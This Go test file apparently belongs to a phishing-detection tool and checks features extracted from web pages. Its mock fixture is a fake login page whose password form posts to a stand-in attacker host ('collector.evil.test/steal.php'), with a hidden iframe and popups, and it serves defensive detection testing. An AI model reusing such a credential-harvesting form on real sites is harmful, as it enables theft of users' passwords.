package features

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"

	"phishguard/internal/fetcher"
	"phishguard/internal/htmldoc"
)

// Mock HTML content that triggers most content features
const mockPhishingHTML = `<html>
<head>
    <title>Secure Login</title>
    <meta name="description" content="Sign in">
    <link rel="icon" href="/favicon.ico">
    <link rel="stylesheet" href="https://cdn.other.test/responsive.css">
    <script src="/app.js"></script>
</head>
<body>
    <script>window.open("http://popup.test"); WINDOW.OPEN("x");</script>
    <iframe src="hidden.html" width="0"></iframe>
    <img src="https://login.example.com/logo.png">
    <form action="https://collector.evil.test/steal.php">
        <input type="password" name="pass">
        <input type="hidden" name="token">
        <button type="submit">Go</button>
    </form>
    <a href="#">Help</a>
    <a href="#">Terms</a>
    <a href="https://login.example.com/reset">Reset</a>
    <a href="https://evil.test/x">Elsewhere</a>
    <a href="/relative">Relative</a>
    <p>Copyright 2024 login.example.com</p>
</body>
</html>`

func TestComputeContent_FromPage(t *testing.T) {
	out := fetcher.Success{
		FinalURL:   "https://login.example.com/",
		StatusCode: 200,
		Body:       mockPhishingHTML,
		Redirects: []fetcher.Hop{
			{URL: "http://login.example.com/", StatusCode: 301},
			{URL: "https://tracker.test/r?to=x", StatusCode: 302},
		},
	}
	c := ComputeContent("https://login.example.com/", "login.example.com", htmldoc.Parse(out.Body), out, true)

	assert.Equal(t, 25, c.LineOfCode)
	assert.True(t, c.HasTitle)
	assert.Greater(t, c.DomainTitleMatchScore, 0.0)
	assert.False(t, c.URLTitleMatchScore)
	assert.True(t, c.HasFavicon)
	assert.True(t, c.HasDescription)
	assert.True(t, c.Responsive)
	assert.True(t, c.Robots)
	assert.Equal(t, 1, c.Images)
	assert.Equal(t, 1, c.Stylesheets)
	assert.Equal(t, 2, c.Scripts)
	assert.Equal(t, 1, c.IFrames)
	assert.Equal(t, 2, c.Popups)
	assert.Equal(t, 3, c.SelfRefs)
	assert.Equal(t, 2, c.EmptyRefs)
	assert.Equal(t, 1, c.ExternalRefs)
	assert.Equal(t, 2, c.Redirects)
	assert.Equal(t, 1, c.SelfRedirects)
	assert.True(t, c.ExternalFormSubmit)
	assert.True(t, c.SubmitButton)
	assert.True(t, c.HiddenFields)
	assert.True(t, c.PasswordField)
	assert.True(t, c.CopyrightInfo)
}

func TestComputeContent_Failure(t *testing.T) {
	out := fetcher.Failure{Reason: errors.New("dial tcp: no such host")}
	c := ComputeContent("https://bank-example.com/login", "bank-example.com", htmldoc.Empty(), out, false)

	assert.Equal(t, Content{}, c)
}

func TestComputeContent_RobotsIndependentOfFetch(t *testing.T) {
	out := fetcher.Failure{Reason: errors.New("timeout")}
	c := ComputeContent("https://example.com", "example.com", htmldoc.Empty(), out, true)

	assert.True(t, c.Robots)
	assert.False(t, c.HasTitle)
}

func TestComputeContent_TitleEqualsURL(t *testing.T) {
	body := `<html><title>HTTPS://Example.com/Login</title></html>`
	out := fetcher.Success{Body: body, StatusCode: 200}
	c := ComputeContent("https://example.com/login", "example.com", htmldoc.Parse(body), out, false)

	assert.True(t, c.URLTitleMatchScore)
}

func TestComputeContent_SameHostFormIsNotExternal(t *testing.T) {
	body := `<form action="https://Example.com/post"></form><form action="/local"></form><form action="javascript:void(0)"></form>`
	out := fetcher.Success{Body: body, StatusCode: 200}
	c := ComputeContent("https://example.com", "example.com", htmldoc.Parse(body), out, false)

	assert.False(t, c.ExternalFormSubmit)
}

func TestComputeContent_EmptyDomain(t *testing.T) {
	body := "<html><body>plain</body></html>"
	out := fetcher.Success{Body: body, Redirects: []fetcher.Hop{{URL: "http://x/", StatusCode: 302}}}
	c := ComputeContent("::", "", htmldoc.Parse(body), out, false)

	assert.Zero(t, c.SelfRefs)
	assert.Zero(t, c.SelfRedirects)
	assert.Equal(t, 1, c.Redirects)
}

func TestLineMetrics(t *testing.T) {
	tests := []struct {
		body           string
		lines, longest int
	}{
		{"", 0, 0},
		{"abc", 1, 3},
		{"abc\n", 1, 3},
		{"abc\r\nde\rfghij\n\n", 4, 5},
		{"\n", 1, 0},
		{"a\u2028bb\x0bccc", 3, 3},
		{"héllo\nw", 2, 5},
	}

	for _, tc := range tests {
		lines, longest := lineMetrics(tc.body)
		assert.Equal(t, tc.lines, lines, "lines of %q", tc.body)
		assert.Equal(t, tc.longest, longest, "longest of %q", tc.body)
	}
}
